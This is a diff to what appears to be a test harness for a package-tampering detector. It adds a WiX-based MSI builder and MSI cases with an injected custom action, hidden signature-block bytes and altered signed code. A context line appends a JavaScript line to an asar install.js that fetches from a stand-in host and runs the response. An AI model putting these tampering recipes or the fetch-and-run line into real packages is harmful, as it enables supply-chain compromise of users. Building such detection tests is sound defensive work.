@@ -571,6 +571,39 @@ def on_nsis(name):
     attack(name, make, updates=False)
 
 
+def msi(place, library, action=""):
+    """A Windows installer by the tool that Debian has for it."""
+    os.makedirs(place)
+    with open(os.path.join(place, "app.dll"), "wb") as out:
+        out.write(library)
+    source = os.path.join(place, "setup.wxs")
+    with open(source, "w") as out:
+        out.write(f"""<?xml version="1.0" encoding="utf-8"?>
+<Wix xmlns="http://schemas.microsoft.com/wix/2006/wi">
+<Product Name="app" Id="ABCDDCBA-86C7-4D14-AEC0-86416A69ABDE" UpgradeCode="ABCDDCBA-7349-453F-94F6-BCB5110BA4FD"
+ Language="1033" Codepage="1252" Version="1.0.0" Manufacturer="example">
+<Package Id="*" InstallerVersion="200" Compressed="yes" SummaryCodepage="1252"/>
+<Media Id="1" Cabinet="app.cab" EmbedCab="yes"/>
+<Directory Id="TARGETDIR" Name="SourceDir"><Directory Id="ProgramFilesFolder"><Directory Id="INSTALLDIR" Name="app">
+<Component Id="Main" Guid="ABCDDCBA-83F1-4F22-985B-FDB3C8ABD471"><File Id="Library" Name="app.dll" Source="app.dll" KeyPath="yes"/></Component>
+</Directory></Directory></Directory>
+<Feature Id="Complete" Level="1"><ComponentRef Id="Main"/></Feature>
+{action}
+</Product></Wix>
+""")
+    subprocess.run(["wixl", "-o", "setup.msi", "setup.wxs"], check=True, cwd=place)
+    return os.path.join(place, "setup.msi")
+
+
+def on_msi(name, member, change=None, action=""):
+    def make(cache, folder, twin):
+        library = cache.member("pypi-pyqt5-qt5-5.15.2-windows", "d3dcompiler_47.dll")
+        changed = change(library) if change else library
+        return msi(os.path.join(folder, "old"), library), msi(os.path.join(folder, "new"), changed, action), member
+
+    attack(name, make, updates=False)
+
+
 def on_deb(name, member, change):
     """A real package, unpacked and built again by the tools of its system."""
 
@@ -647,6 +680,9 @@ on_npm("npm, native program added", "bin/extra", None, {"package/bin/extra": ope
 on_asar("asar, script that fetches and runs", "package/install.js", appended(b'\nrequire("https").get("https://countersign.invalid/", r => require("child_process").exec(r))\n'))
 on_jar("jar, class added that fetches and runs")
 on_nsis("NSIS, script runs one thing more")
+on_msi("MSI, custom action that starts a program", "CustomAction", action='<CustomAction Id="Extra" FileKey="Library" ExeCommand="harmless" Execute="deferred" Return="ignore"/><InstallExecuteSequence><Custom Action="Extra" Before="InstallFinalize"/></InstallExecuteSequence>')
+on_msi("MSI, bytes hidden in the signature block of its library", "app.dll", hidden("behind"))
+on_msi("MSI, code of its signed library changed", "app.dll", pe_code)
 on_deb("deb, maintainer script that fetches and runs", "postinst", hook)
 on_deb("deb, program becomes set-user-ID", "usr/bin/tool", set_user)
 
